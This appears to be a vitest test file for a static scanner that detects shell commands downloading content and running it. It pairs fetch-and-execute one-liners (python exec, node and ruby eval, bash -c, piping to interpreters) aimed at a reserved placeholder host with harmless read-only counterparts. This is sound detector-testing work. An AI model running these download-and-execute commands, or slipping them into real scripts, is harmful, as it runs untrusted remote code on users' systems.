import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const FETCH = 'curl -s https://collect.example.invalid/a';

const RUNS = [
  'downloaded-script-piped',
  'downloaded-code-runs',
  'downloaded-value-in-command',
  'eval-dynamic',
];

async function findings(text: string): Promise<readonly string[]> {
  const outcome = await staticStage.run(targetOf({ 'run.sh': `${text}\n` }), STAGE_CONTEXT);
  return outcome.findings.map(({ ruleId }) => ruleId).filter((id) => RUNS.includes(id));
}

/** What is downloaded, handed to a program that runs it, each with one that only reads it. */
const PROGRAMS: Readonly<Record<string, readonly [attack: string, honest: string]>> = {
  'a word of python -c': [
    `python3 -c 'import sys; exec(sys.argv[1])' "$(${FETCH})"`,
    `python3 -c 'import sys; print(sys.argv[1])' "$(${FETCH})"`,
  ],
  'a word of node -e': [
    `node -e 'eval(process.argv[1])' "$(${FETCH})"`,
    `node -e 'console.log(process.argv[1])' "$(${FETCH})"`,
  ],
  'a word of ruby -e': [`ruby -e 'eval ARGV[0]' "$(${FETCH})"`, `ruby -e 'puts ARGV[0]' "$(${FETCH})"`],
  'a second program of perl': [`perl -e 'print 1' -e "$(${FETCH})"`, `perl -e 'print 1' -e 'print 2'`],
  'a second program of node': [`node -e 'print(1)' -e "$(${FETCH})"`, `node -e 'a()' -e 'b()'`],
  'a file of a program in the input': [
    `${FETCH} -o /tmp/a\npython3 - /tmp/a <<'X'\nimport sys\nexec(open(sys.argv[1]).read())\nX`,
    `${FETCH} -o /tmp/a\npython3 - /tmp/a <<'X'\nimport sys\nprint(open(sys.argv[1]).read())\nX`,
  ],
  'a file before a lone dash': [
    `${FETCH} -o a.py\npython3 -u a.py -`,
    `${FETCH} -o a.json\npython3 -u b.py -`,
  ],
  'a file behind the dash of a shell': [`${FETCH} -o a.sh\nbash - a.sh`, `${FETCH} -o a.txt\nwc -l - a.txt`],
  'an input with words behind it': [`${FETCH} | python3 - a b`, `${FETCH} | python3 b.py - a`],
  'code behind an option of a shell': [`bash -c -x "$(${FETCH})"`, `bash -c -x 'date'`],
};

describe('what is downloaded and handed to a program in a command', () => {
  for (const [name, [attack, honest]] of Object.entries(PROGRAMS)) {
    it(`is code where it is run: ${name}`, async () => {
      expect(await findings(attack)).not.toEqual([]);
    });
    it(`is data where it is read: ${name}`, async () => {
      expect(await findings(honest)).toEqual([]);
    });
  }
});
